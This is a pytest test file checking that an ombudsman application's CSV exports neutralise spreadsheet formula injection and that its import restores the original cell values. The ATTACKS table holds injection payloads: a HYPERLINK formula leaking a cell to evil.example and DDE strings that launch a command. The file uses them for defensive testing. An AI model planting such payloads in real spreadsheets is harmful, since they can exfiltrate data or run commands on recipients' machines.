"""CSV exports guard against spreadsheet formulas; our own import reads the cells back."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ombuds_desk.domain.accounts import User
from ombuds_desk.services.cases.person_query import PersonFilter
from ombuds_desk.services.core.formula_cells import FORMULA_STARTS, neutralise, restore
from ombuds_desk.services.lists.export import export_persons, write_table
from ombuds_desk.services.lists.import_columns import PERSON_COLUMNS
from ombuds_desk.services.lists.person_import import plan_import, run_import
from ombuds_desk.services.lists.tabular_files import cell_text, read_table
from ombuds_desk.store.database import Database
from tests.services.helpers import register

ATTACKS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_every_formula_start_is_covered() -> None:
    assert set(ATTACKS) == set(FORMULA_STARTS)


@pytest.mark.parametrize("start", list(ATTACKS))
def test_a_cell_starting_with_a_formula_character_is_written_as_text(
    tmp_path: Path, start: str
) -> None:
    attack = ATTACKS[start]
    path = tmp_path / "list.csv"
    write_table(path, ["family_name", "notes"], [["Шевченко", attack]], title="t")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    written = rows[1][1]
    # Excel and LibreOffice read a cell starting with an apostrophe as text, never a formula.
    assert written == "'" + attack
    assert written[0] not in FORMULA_STARTS
    assert rows[1][0] == "Шевченко"  # ordinary text untouched
    # Our own import takes the apostrophe off again.
    assert read_table(path).rows[0].cells[1] == attack


@pytest.mark.parametrize("text", ["Шевченко", "'quoted", "a=b", "", "1-2", "ʼЯ"])
def test_text_that_is_no_formula_is_written_as_it_is(text: str) -> None:
    assert neutralise(text) == text


@given(st.text())
def test_every_text_makes_the_round_trip(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert neutralise(text)[:1] not in FORMULA_STARTS


def test_a_phone_number_and_a_negative_figure_import_back_unchanged(
    db: Database, admin: User, today: date, tmp_path: Path
) -> None:
    register(db, admin, today, family_name="Ковальчук", given_name="Ірина", unit="-12 бригада")
    register(db, admin, today, family_name="Бойко", unit="@штаб", home_region="+380501234567")
    path = tmp_path / "persons.csv"
    with db.reading() as session:
        assert export_persons(session, PersonFilter(), path, today=today, threshold_days=30) == 2
    raw = path.read_text(encoding="utf-8-sig")
    assert "'+380501234567" in raw and "'-12 бригада" in raw and "'@штаб" in raw
    table = read_table(path)
    column = {name: PERSON_COLUMNS.index(name) for name in PERSON_COLUMNS}
    cells = {cell_text(r.cells[column["family_name"]]): r.cells for r in table.rows}
    assert cell_text(cells["Бойко"][column["home_region"]]) == "+380501234567"
    assert cell_text(cells["Бойко"][column["unit"]]) == "@штаб"
    assert cell_text(cells["Ковальчук"][column["unit"]]) == "-12 бригада"
    # Importing the export over the register changes nothing: every value came back as it was.
    with db.reading() as session:
        plan = plan_import(session, admin, table, today=today)
    assert plan.problems == []
    assert plan.count("unchanged") == 2, [r.action for r in plan.rows]
    done = run_import(db, admin, plan, today=today)
    assert (done.added, done.updated) == (0, 0)
